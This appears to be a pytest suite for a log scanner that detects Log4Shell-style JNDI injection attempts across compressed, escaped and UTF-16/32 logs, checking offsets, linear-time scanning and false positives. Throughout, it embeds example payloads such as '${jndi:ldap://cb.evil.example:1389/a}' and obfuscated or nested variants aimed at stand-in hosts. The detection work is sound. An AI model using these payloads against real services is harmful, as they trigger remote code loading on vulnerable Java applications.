"""The log scanner: formats, encodings, positions, and recall and false positives on the
generated corpora (``bench/scan_logs_corpus.py``)."""

from __future__ import annotations

import bz2
import codecs
import gzip
import io
import lzma
import random
import re
import time
import zipfile
from itertools import accumulate
from pathlib import Path

import pytest
import zstandard
from bench.scan_logs_corpus import BENIGN_DOLLAR, ENCODINGS, attempts, benign_lines, encode, payload
from hypothesis import given, settings
from hypothesis import strategies as st

from clearinghouse.scan.logs import (
    BLOCK,
    CANDIDATE,
    KEEP_MARKS,
    OVERLAP,
    SNIFF,
    LogLimits,
    LogScan,
    _sniff,
    _Wide,
    candidate_starts,
    scan_logs,
    scan_stream,
)

ATTACK = (
    b'1.2.3.4 - - [10/Dec/2021] "GET /?x=${jndi:ldap://cb.evil.example:1389/a} HTTP/1.1" 200 1\n'
)
BENIGN = b'10.0.0.1 - - [10/Dec/2021] "GET /index.html HTTP/1.1" 200 512 "-" "curl/8.5.0"\n'


def stream(data: bytes, limits: LogLimits | None = None) -> LogScan:
    scan = LogScan()
    scan_stream("mem", io.BytesIO(data), scan, limits or LogLimits())
    return scan


def test_line_number_offset_and_callback_are_reported() -> None:
    data = BENIGN * 3 + ATTACK + BENIGN
    scan = stream(data)
    (finding,) = scan.findings
    assert finding.line == 4
    assert finding.offset == len(BENIGN) * 3 + ATTACK.index(b"${")
    assert data[finding.offset : finding.offset + 7] == b"${jndi:"
    assert (finding.payload.protocol, finding.payload.host, finding.payload.port) == (
        "ldap",
        "cb.evil.example",
        1389,
    )
    assert scan.lines == 5


def test_positions_stay_right_across_blocks_and_without_a_final_newline() -> None:
    filler = BENIGN * (BLOCK // len(BENIGN) + 7)
    data = filler + ATTACK + filler + ATTACK.rstrip(b"\n")
    scan = stream(data)
    assert [f.line for f in scan.findings] == [
        filler.count(b"\n") + 1,
        2 * filler.count(b"\n") + 2,
    ]
    for finding in scan.findings:
        assert data[finding.offset : finding.offset + 2] == b"${"
    assert scan.lines == 2 * filler.count(b"\n") + 2


def test_any_field_and_invalid_bytes_and_latin1() -> None:
    lines = [
        b'{"user":"\xff\xfe${jndi:dns://json.example/a}","msg":"caf\xe9"}\n',
        "agent=Mozilla/5.0 日本語 ${jndi:rmi://utf8.example/a}\n".encode(),
        b"X-Api-Version: %24%7Bjndi:ldap://header.example/a%7D\n",
    ]
    scan = stream(b"".join(lines))
    assert [f.payload.host for f in scan.findings] == [
        "json.example",
        "utf8.example",
        "header.example",
    ]


@pytest.mark.parametrize("kind", ["plain", "gzip", "bzip2", "xz", "zstd", "zip"])
def test_every_compression_is_read(kind: str, tmp_path: Path) -> None:
    data = BENIGN * 10 + ATTACK
    path = tmp_path / f"access.{kind}"
    match kind:
        case "plain":
            path.write_bytes(data)
        case "gzip":
            path.write_bytes(gzip.compress(data))
        case "bzip2":
            path.write_bytes(bz2.compress(data))
        case "xz":
            path.write_bytes(lzma.compress(data))
        case "zstd":
            path.write_bytes(zstandard.ZstdCompressor().compress(data))
        case _:
            with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
                archive.writestr("logs/access.log", data)
    scan = scan_logs([path])
    assert [(f.line, f.payload.host) for f in scan.findings] == [(11, "cb.evil.example")]
    assert scan.problems == []
    expected_name = f"{path} > logs/access.log" if kind == "zip" else str(path)
    assert scan.findings[0].file == expected_name


def test_unreadable_and_corrupt_files_are_listed_with_their_error(tmp_path: Path) -> None:
    (tmp_path / "broken.gz").write_bytes(gzip.compress(ATTACK * 100)[:50])
    (tmp_path / "dangling.log").symlink_to(tmp_path / "nowhere.log")
    (tmp_path / "ok.log").write_bytes(ATTACK)
    scan = scan_logs([tmp_path])
    assert [f.file for f in scan.findings] == [str(tmp_path / "ok.log")]
    reasons = {Path(p.file).name: p.reason for p in scan.problems}
    assert set(reasons) == {"broken.gz", "dangling.log"}
    assert "EOFError" in reasons["broken.gz"]


def test_findings_per_stream_are_bounded() -> None:
    scan = stream(ATTACK * 50, LogLimits(max_findings_per_stream=10))
    assert len(scan.findings) == 10
    assert scan.dropped_findings == 40


def test_full_recall_on_ten_thousand_generated_obfuscations() -> None:
    generated = list(attempts(10_000))
    scan = stream(("\n".join(a.line for a in generated) + "\n").encode())
    by_line: dict[int, set[str | None]] = {}
    for finding in scan.findings:
        by_line.setdefault(finding.line, set()).add(finding.payload.host)
    missed = [a for n, a in enumerate(generated, 1) if a.host not in by_line.get(n, set())]
    assert missed == []
    assert len(scan.findings) == len(generated)  # one finding per attempt, no duplicates


@pytest.mark.slow
def test_no_false_positive_on_a_million_benign_lines() -> None:
    data = ("\n".join(benign_lines(1_000_000)) + "\n").encode()
    assert data.count(b"${") > 10_000  # the corpus does hold lookalikes
    scan = stream(data)
    assert scan.findings == []
    assert scan.lines == 1_000_000


# --- runs of backslashes: linear time, the same candidates ------------------------------------

JSON_ESCAPED = r'{"msg":"GET /?q={run}u0024{run}u007bjndi:ldap://e.com/a{run}u007d"}'


@pytest.mark.parametrize("run", [1, 2, 4, 8, 1000, 2000])
def test_escaped_lookups_behind_a_run_of_backslashes_are_found_at_the_run(run: int) -> None:
    line = (BENIGN.decode() + JSON_ESCAPED.replace("{run}", "\\" * run) + "\n").encode()
    scan = stream(line)
    (finding,) = scan.findings
    assert (finding.payload.decoded, finding.payload.host) == ("${jndi:ldap://e.com/a}", "e.com")
    assert finding.offset == line.index(b"\\")  # the first backslash of the run


def test_unrelated_backslash_runs_before_an_escaped_lookup_do_not_hide_it() -> None:
    line = (
        rb"C:\\\\Windows\\\\user\\\\x2\\\\u002 then \\\\\\\\u0024{jndi:ldap://e.com/a}"
        rb" and \\\\x24\\\\x7bjndi:rmi://f.com/b}" + b"\n"
    )
    scan = stream(line)
    assert [(f.offset, f.payload.host) for f in scan.findings] == [
        (line.index(rb"\\\\\\\\u0024"), "e.com"),
        (line.index(rb"\\\\x24"), "f.com"),
    ]


def test_a_200_kib_line_of_backslashes_is_scanned_in_linear_time() -> None:
    # Before: every backslash of a run retried the run to its end (candidate_starts, then
    # normalise in the decoded window): 87 s for 80 KiB, about ten minutes here.
    run = b"\\" * (200 * 1024)
    lines = [run + b"x\n", run + b"u0024{\n", ATTACK]
    data = b"".join(lines)
    started = time.perf_counter()
    scan = stream(data)
    elapsed = time.perf_counter() - started
    assert elapsed < 2.0, f"{elapsed:.2f} s"
    assert candidate_starts(data) == [len(lines[0]), len(lines[0] + lines[1]) + ATTACK.index(b"${")]
    assert [(f.line, f.payload.host) for f in scan.findings] == [(3, "cb.evil.example")]
    assert scan.lines == 3


# The finder before it was made linear, kept as the definition the new one must agree with.
def quadratic_candidate_starts(data: bytes) -> list[int]:
    starts: set[int] = set()
    after_byte = ((b"$", frozenset(b"{%\\&")), (b"\\", frozenset(b"uUxX\\")))
    for byte, after in after_byte:
        index = data.find(byte)
        while index >= 0:
            found = (
                CANDIDATE.match(data, index)
                if data[index + 1 : index + 2] and data[index + 1] in after
                else None
            )
            if found is not None:
                starts.add(index)
                index = data.find(byte, found.end())
            else:
                index = data.find(byte, index + 1)
    for token in (re.compile(rb"%2[45]"), re.compile(rb"&(?:#|dollar;)")):
        for hit in token.finditer(data):
            if CANDIDATE.match(data, hit.start()):
                starts.add(hit.start())
    return sorted(starts)


# Texts made of the pieces of a candidate: runs of backslashes, each encoding of "$" and
# "{" (the backslash ones without their backslash), partial tokens, and candidate-shaped
# runs-dollar-runs-brace sequences (many of them broken).
RUN = st.integers(0, 12).map(lambda n: b"\\" * n)
DOLLAR = st.sampled_from(b"u0024 U0024 x24 X24 $ %24 %2524 &#36; &#0036 &#x24; &dollar;".split())
BRACE = st.sampled_from(b"u007b u007B x7b X7B { %7b %257B &#123; &#x7b &lbrace; &lcub;".split())
NOISE = st.sampled_from([b" ", b"\n", *b"u x X 0 24 7b % 25 &# &#x ; a".split()])
SHAPED = st.tuples(RUN, DOLLAR, RUN, BRACE).map(b"".join)
TEXT = st.lists(st.one_of(RUN, DOLLAR, BRACE, NOISE, SHAPED), max_size=40).map(b"".join)


@settings(max_examples=500, database=None)
@given(TEXT)
def test_the_linear_finder_agrees_with_the_quadratic_one(data: bytes) -> None:
    assert candidate_starts(data) == quadratic_candidate_starts(data)


# Runs of "${" (taken at once) beside the other candidates and their pieces.
DOLLAR_BRACE_RUN = st.integers(1, 8).map(lambda n: b"${" * n)
RUNS_TEXT = st.lists(st.one_of(DOLLAR_BRACE_RUN, RUN, DOLLAR, BRACE, NOISE), max_size=40)


@settings(max_examples=500, database=None)
@given(RUNS_TEXT.map(b"".join))
def test_the_finder_agrees_with_the_quadratic_one_on_runs_of_dollar_braces(data: bytes) -> None:
    assert candidate_starts(data) == quadratic_candidate_starts(data)


def test_a_decimal_reference_too_long_for_int_does_not_stop_the_file() -> None:
    # html.unescape raised ValueError on it (int's 4,300-digit limit): the file became a
    # problem and no attempt after the line was reported.
    decoy = b"GET /?q=&#" + b"0" * 5000 + b"36;{x} HTTP/1.1\n"
    scan = stream(decoy + ATTACK)
    assert scan.problems == []
    assert [(f.line, f.payload.host) for f in scan.findings] == [(2, "cb.evil.example")]


# --- every candidate of a line is read, however far from the first ----------------------------
# Before: 8,192 characters after a line's first candidate were decoded, so a decoy "${x}" and
# padding, or a longer run of backslashes, hid the attempt behind it.

MIB = 1024 * 1024
CALLBACK = b"${jndi:ldap://cb.evil.example:1389/a}"


def callbacks(scan: LogScan) -> list[tuple[int, str | None, str | None, int | None]]:
    return [(f.line, f.payload.protocol, f.payload.host, f.payload.port) for f in scan.findings]


def test_an_attempt_behind_a_decoy_and_9000_spaces_is_found_on_its_line() -> None:
    line = b'1.2.3.4 - - "GET /?q=${x}' + b" " * 9000 + CALLBACK + b' HTTP/1.1" 200 1\n'
    data = BENIGN + line + BENIGN
    scan = stream(data)
    assert callbacks(scan) == [(2, "ldap", "cb.evil.example", 1389)]
    (finding,) = scan.findings
    assert finding.offset == data.index(CALLBACK)
    assert finding.excerpt == line[line.index(CALLBACK) : -1].decode()  # to the line end
    assert finding.payload.decoded == "${jndi:ldap://cb.evil.example:1389/a}"


@pytest.mark.parametrize("run", [8_000, 9_000, 200 * 1024])
def test_an_escaped_attempt_behind_a_run_longer_than_the_old_window_is_found(run: int) -> None:
    line = b'{"msg":"' + b"\\" * run + b'u0024{jndi:ldap://cb.evil.example:1389/a}"}\n'
    data = BENIGN * 2 + line + BENIGN
    started = time.perf_counter()
    scan = stream(data)
    elapsed = time.perf_counter() - started
    assert elapsed < 2.0, f"{elapsed:.2f} s"
    assert callbacks(scan) == [(3, "ldap", "cb.evil.example", 1389)]
    assert scan.findings[0].offset == data.index(b"\\")  # the run's first backslash, as before


@pytest.mark.parametrize("padding", [1, 9_000])
def test_a_megabyte_line_of_decoys_is_scanned_in_linear_time_to_the_attempt_at_its_end(
    padding: int,
) -> None:
    decoys = b"${x}" + b" " * padding
    line = decoys * ((MIB - len(CALLBACK)) // len(decoys)) + CALLBACK + b"\n"
    started = time.perf_counter()
    scan = stream(BENIGN + line)
    elapsed = time.perf_counter() - started
    assert elapsed < 2.0, f"{elapsed:.2f} s"
    assert callbacks(scan) == [(2, "ldap", "cb.evil.example", 1389)]
    assert scan.findings[0].offset == len(BENIGN) + line.index(CALLBACK)


def test_a_megabyte_line_of_dollar_braces_is_scanned_in_linear_time() -> None:
    # 2.7 s per 8 MB before (each "${" a turn of the finder's loop); a run is now one match.
    flood = b"${" * (MIB // 2)
    data = flood + b"\n" + flood + CALLBACK + b"\n" + BENIGN
    started = time.perf_counter()
    scan = stream(data)
    elapsed = time.perf_counter() - started
    assert elapsed < 2.0, f"{elapsed:.2f} s"
    # inside 2**19 unclosed lookups (deeper than MAX_DEPTH): reported at the outermost one
    assert callbacks(scan) == [(2, "ldap", "cb.evil.example", 1389)]
    assert scan.findings[0].offset == len(flood) + 1
    assert scan.lines == 3


def test_every_attempt_of_a_megabyte_line_of_them_is_reported_in_linear_time() -> None:
    attempts_on_line = [b"${jndi:ldap://h%d.evil.example/a} " % n for n in range(30_000)]
    line = b"".join(attempts_on_line) + b"\n"
    assert len(line) > MIB - 100_000
    started = time.perf_counter()
    scan = stream(line)
    elapsed = time.perf_counter() - started
    assert elapsed < 2.0, f"{elapsed:.2f} s"
    assert [f.payload.host for f in scan.findings] == [f"h{n}.evil.example" for n in range(30_000)]
    assert [f.offset for f in scan.findings] == [0, *accumulate(map(len, attempts_on_line[:-1]))]


UNCLOSED = ["${", "\\u0024{", "${jndi"]  # an attempt inside one is reported at the decoy
DECOYS = st.sampled_from(["", "${x}", "$%7Bx%7D", "%24%7Bx%7D", *UNCLOSED, *BENIGN_DOLLAR])


@settings(max_examples=200, database=None, deadline=None)
@given(
    seed=st.integers(0, 2**32 - 1),
    encoding=st.sampled_from(ENCODINGS),
    decoy=DECOYS,
    spaces=st.one_of(st.integers(0, 20_000), st.sampled_from([8_180, 8_192, 8_200, 9_000])),
)
def test_padding_or_a_decoy_before_an_attempt_on_its_line_never_hides_it(
    seed: int, encoding: str, decoy: str, spaces: int
) -> None:
    rng = random.Random(seed)
    text, host = payload(rng)
    attack = encode(rng, text, encoding)
    alone = stream(f'"GET /?q={attack} HTTP/1.1"\n'.encode())
    assert [f.payload.host for f in alone.findings] == [host]
    before = f'"GET /?q={decoy}{" " * spaces}'.encode()
    scan = stream(BENIGN + before + f'{attack} HTTP/1.1"\n'.encode() + BENIGN)
    assert [(f.line, f.payload) for f in scan.findings] == [(2, alone.findings[0].payload)]
    at = len(b'"GET /?q=') if decoy in UNCLOSED else len(before)
    assert scan.findings[0].offset == len(BENIGN) + at


# --- lines longer than a block -----------------------------------------------------------------
# A line with no newline in a whole block is scanned in blocks that overlap (``_resume_at``):
# an attempt across a block's end used to be cut in two and missed, so padding a logged
# field to a few MiB hid it.


def _long_line(filler: bytes, attack: bytes, at: int, length: int) -> bytes:
    """A benign line, then one of ``length`` bytes of ``filler`` with ``attack`` at ``at``
    in the stream, then a benign line."""
    pad = filler * (length // len(filler) + 1)
    before = at - len(BENIGN)
    return BENIGN + pad[:before] + attack + pad[: length - before] + b"\n" + BENIGN


# Where blocks end or start again in such a line, in the stream (the first block ends after
# the benign line): the old cut, every BLOCK bytes read, and where the next block starts
# now, OVERLAP bytes before (or a little more, to a byte no candidate contains).
EDGES = (BLOCK, 2 * BLOCK - OVERLAP, 2 * BLOCK)
LENGTH = 2 * BLOCK + OVERLAP // 2
AROUND_BLOCK_ENDS = sorted(
    {edge + delta for edge in EDGES for delta in (-40, -37, -20, -5, -1, 0, 1, 30)}
)


@pytest.mark.parametrize("at", AROUND_BLOCK_ENDS)
@pytest.mark.parametrize("filler", [b" ", b"A"])
def test_an_attempt_across_a_block_end_of_a_long_line_is_found_once(at: int, filler: bytes) -> None:
    data = _long_line(filler, CALLBACK, at, LENGTH)
    scan = stream(data)
    assert callbacks(scan) == [(2, "ldap", "cb.evil.example", 1389)]
    assert scan.findings[0].offset == at
    assert scan.lines == 3
    assert scan.bytes == len(data)


@settings(max_examples=25, database=None, deadline=None)
@given(
    seed=st.integers(0, 2**32 - 1),
    encoding=st.sampled_from(ENCODINGS),
    edge=st.sampled_from(EDGES),
    delta=st.integers(-300, 50),
    filler=st.sampled_from([b" ", b"A", b"%", b"&"]),
)
def test_any_encoded_attempt_across_a_block_end_of_a_long_line_is_found_once(
    seed: int, encoding: str, edge: int, delta: int, filler: bytes
) -> None:
    rng = random.Random(seed)
    text, host = payload(rng)
    attack = encode(rng, text, encoding).encode()
    data = _long_line(filler, attack, edge + delta, LENGTH)
    scan = stream(data)
    assert [(f.line, f.payload.host) for f in scan.findings] == [(2, host)]
    assert scan.findings[0].offset == edge + delta


def test_every_attempt_of_a_line_longer_than_two_blocks_is_found_once_in_linear_time() -> None:
    attempts_on_line = [
        b"${jndi:ldap://h%d.evil.example/a}%s" % (n, b" " * 97) for n in range(70_000)
    ]
    line = b"".join(attempts_on_line)
    assert len(line) > 2 * BLOCK
    started = time.perf_counter()
    scan = stream(line + b"\n")
    elapsed = time.perf_counter() - started
    assert elapsed < 10.0, f"{elapsed:.2f} s"
    assert [f.payload.host for f in scan.findings] == [f"h{n}.evil.example" for n in range(70_000)]
    assert [f.offset for f in scan.findings] == [0, *accumulate(map(len, attempts_on_line[:-1]))]


# --- UTF-16 and UTF-32 -------------------------------------------------------------------------
# Windows PowerShell 5.1 writes UTF-16 by default (``Out-File``, ``>``): each ``$`` is followed
# by a zero byte there, so a byte scan found nothing in such a log.

WIDE = [
    ("utf-16-le", codecs.BOM_UTF16_LE, 2),
    ("utf-16-be", codecs.BOM_UTF16_BE, 2),
    ("utf-32-le", codecs.BOM_UTF32_LE, 4),
    ("utf-32-be", codecs.BOM_UTF32_BE, 4),
    ("utf-16-le", b"", 2),  # no byte-order mark: told by its zero bytes
    ("utf-16-be", b"", 2),
]
WIDE_TEXT = (
    '10.0.0.1 - - "GET /索引.html HTTP/1.1" 200 512 "curl/8.5.0" 😀\n' * 3
    + '1.2.3.4 - - "GET /?x=${jndi:ldap://cb.evil.example:1389/a} 用户 HTTP/1.1" 200 1\n'
    + "\u00e9t\u00e9 \U0001f600\U0001f601 ${jnd${upper:\u0131}:ldap://dotless.example/a}\n"
)


class ShortReads(io.BytesIO):
    """A stream that returns fewer bytes than asked, as zstandard's reader may."""

    def __init__(self, data: bytes, seed: int) -> None:
        super().__init__(data)
        self.rng = random.Random(seed)

    def read(self, size: int | None = -1) -> bytes:
        return super().read(self.rng.randint(1, 300))


def _wide_points(data: bytes, codec: str, unit: int, scan: LogScan) -> list[str]:
    """What each finding's offset points at in the stream, read in its encoding."""
    return [data[f.offset : f.offset + 2 * unit].decode(codec) for f in scan.findings]


@pytest.mark.parametrize(("codec", "bom", "unit"), WIDE)
def test_a_utf16_or_utf32_log_is_read_as_its_text_with_offsets_in_the_stream(
    codec: str, bom: bytes, unit: int
) -> None:
    data = bom + WIDE_TEXT.encode(codec)
    for scan in (stream(data), _short_reads(data, 7)):
        assert [(f.line, f.payload.host) for f in scan.findings] == [
            (4, "cb.evil.example"),
            (5, "dotless.example"),
        ]
        assert _wide_points(data, codec, unit, scan) == ["${", "${"]
        assert scan.findings[0].excerpt.startswith("${jndi:ldap://cb.evil.example:1389/a} 用户")
        assert (scan.lines, scan.bytes) == (5, len(data))


def _short_reads(data: bytes, seed: int) -> LogScan:
    scan = LogScan()
    scan_stream("mem", ShortReads(data, seed), scan, LogLimits())
    return scan


@settings(max_examples=60, database=None, deadline=None)
@given(
    before=st.text(max_size=300).filter(lambda t: "$" not in t and "\\" not in t),
    after=st.text(max_size=50).filter(lambda t: "$" not in t),
    wide=st.sampled_from(WIDE[:4]),
    seed=st.integers(0, 1000),
)
def test_any_text_before_an_attempt_leaves_its_wide_offset_exact(
    before: str, after: str, wide: tuple[str, bytes, int], seed: int
) -> None:
    codec, bom, unit = wide
    line = before.replace("\n", " ") + "${jndi:ldap://cb.evil.example/a}" + after + "\n"
    data = bom + line.encode(codec, "surrogatepass")
    scan = _short_reads(data, seed)
    assert [f.payload.host for f in scan.findings] == ["cb.evil.example"]
    assert _wide_points(data, codec, unit, scan) == ["${"]


def test_a_long_cjk_utf16_log_keeps_exact_offsets_with_bounded_marks(tmp_path: Path) -> None:
    # every word a run of non-ASCII characters: a mark each, over more than KEEP_MARKS
    line = " ".join(["漏洞报告"] * 40) + "\n"
    lines = [line] * 40_000
    for n in (5, 19_999, 39_990):
        lines[n] = f"{line[:30]} ${{jndi:ldap://h{n}.evil.example/a}} {line[30:]}"
    data = codecs.BOM_UTF16_LE + "".join(lines).encode("utf-16-le")
    assert len("".join(lines).encode()) > 4 * BLOCK + 1_000_000  # UTF-8: past KEEP_MARKS
    path = tmp_path / "powershell.log.gz"
    path.write_bytes(gzip.compress(data, compresslevel=1))
    scan = scan_logs([path])
    assert [(f.line, f.payload.host) for f in scan.findings] == [
        (n + 1, f"h{n}.evil.example") for n in (5, 19_999, 39_990)
    ]
    assert _wide_points(data, "utf-16-le", 2, scan) == ["${"] * 3
    assert (scan.lines, scan.bytes) == (40_000, len(data))
    # the reader keeps the marks of the last KEEP_MARKS bytes of UTF-8 (and a batch), not
    # all of them: here 40 per line, 1.6M in all, each 13 bytes of UTF-8 apart
    reader = _Wide.of(data[:SNIFF])
    assert reader is not None
    most = 0
    for start in range(0, len(data), BLOCK):
        reader.transcode(data[start : start + BLOCK])
        most = max(most, len(reader._keys))
    per_mark = len(" 漏洞报告".encode())
    assert most <= KEEP_MARKS // per_mark + 4096 + BLOCK // per_mark
    assert "".join(lines).count(" ") > 1.4 * most


@pytest.mark.parametrize(
    "head",
    [
        b"\x00\x01\x02\x03" * 64,  # binary: zero bytes on both sides
        "caf\u00e9 ${jndi:ldap://x/a}\n".encode("latin-1") * 20,  # Latin-1: no zero byte
        b"\x00" * 3,  # too short to tell
    ],
)
def test_bytes_that_are_not_wide_text_are_read_as_they_are(head: bytes) -> None:
    assert _sniff(head) is None


# --- found by review: each failed before ---------------------------------------------------


def test_an_attempt_nested_across_a_block_start_is_reported_once() -> None:
    # the next block starts between the outer lookup and the inner one
    attack = b"${env:NOPE:-${jndi:ldap://cb.evil.example/a}}"
    at = 2 * BLOCK - OVERLAP - 12
    data = _long_line(b" ", attack, at, LENGTH)
    assert [(f.line, f.offset) for f in stream(data).findings] == [(2, at)]


def test_an_escaped_attempt_in_a_backslash_run_across_a_block_start_is_reported_once() -> None:
    attack = rb"\\\\u0024\\\\u007bjndi:ldap://cb.evil.example/a}"
    at = 2 * BLOCK - OVERLAP - 2  # candidate bytes all around: no better place to start
    data = _long_line(b"A", attack, at, LENGTH)
    assert [(f.line, f.offset) for f in stream(data).findings] == [(2, at)]


def test_a_wide_log_is_recognised_however_short_its_first_read() -> None:
    data = "OK\r\nGET /?x=${jndi:ldap://cb.evil.example/a}\r\n".encode("utf-16-le")
    for first in (1, 2, 3, 10, 15):
        scan = LogScan()
        scan_stream("mem", FirstRead(data, first), scan, LogLimits())
        assert [(f.line, f.offset) for f in scan.findings] == [(2, 24)], first
        assert (scan.lines, scan.bytes) == (2, len(data))


def test_bytes_made_to_look_wide_do_not_hide_the_attempts_after_them() -> None:
    # the first 4 KiB of a UTF-8 log, written by whoever made the first request, look like
    # UTF-16: the log is read both ways
    data = (
        b"GET /?q=" + b"A\x00" * 2100 + b"\n" + b"x" * 100 + b"\n"
        b"GET /?x=${jndi:ldap://cb.evil.example/a}\n"
    )
    assert _sniff(data[:SNIFF]) is not None
    scan = stream(data)
    assert [(f.line, f.offset) for f in scan.findings] == [(3, data.index(b"${"))]


@pytest.mark.parametrize("codec", ["utf-16-le", "utf-32-le"])
def test_the_bytes_of_a_wide_log_cut_in_a_code_unit_are_the_bytes_read(codec: str) -> None:
    data = codecs.BOM_UTF16_LE + "x\n".encode("utf-16-le") + b"A"
    if codec == "utf-32-le":
        data = codecs.BOM_UTF32_LE + "x\n".encode(codec) + b"A"
    assert stream(data).bytes == len(data)


def test_the_byte_limit_inside_a_long_line_still_scans_what_was_read() -> None:
    data = b" " * (BLOCK - 200_000) + CALLBACK + b" " * 300_000 + b"\n"
    scan = stream(data, LogLimits(max_bytes_per_stream=BLOCK))
    assert [f.offset for f in scan.findings] == [BLOCK - 200_000]
    assert scan.bytes == BLOCK
    assert [p.reason for p in scan.problems] == [f"stopped after {BLOCK} bytes (limit)"]


class FirstRead(io.BytesIO):
    """A stream whose first read returns ``first`` bytes (zstandard's reader stops at the
    end of each frame), then what is asked."""

    def __init__(self, data: bytes, first: int) -> None:
        super().__init__(data)
        self.first: int | None = first

    def read(self, size: int | None = -1) -> bytes:
        asked, self.first = (self.first or size), None
        return super().read(asked)


def test_utf16_with_its_mark_and_a_first_nul_is_not_taken_for_utf32() -> None:
    """FF FE 00 00 opens both UTF-32-LE and UTF-16-LE whose first character is U+0000;
    what follows tells them apart (UTF-16 text read as UTF-32 is past U+10FFFF)."""
    for codec, unit, text in (
        ("utf-16-le", 2, "\0" + WIDE_TEXT),
        ("utf-32-le", 4, WIDE_TEXT),
        ("utf-32-le", 4, "\0" + WIDE_TEXT),
    ):
        data = (
            codecs.BOM_UTF16_LE + text.encode(codec)
            if unit == 2
            else (codecs.BOM_UTF32_LE + text.encode(codec))
        )
        scan = stream(data)
        assert [(f.line, f.payload.host) for f in scan.findings] == [
            (4, "cb.evil.example"),
            (5, "dotless.example"),
        ], codec
        assert _wide_points(data, codec, unit, scan) == ["${", "${"]
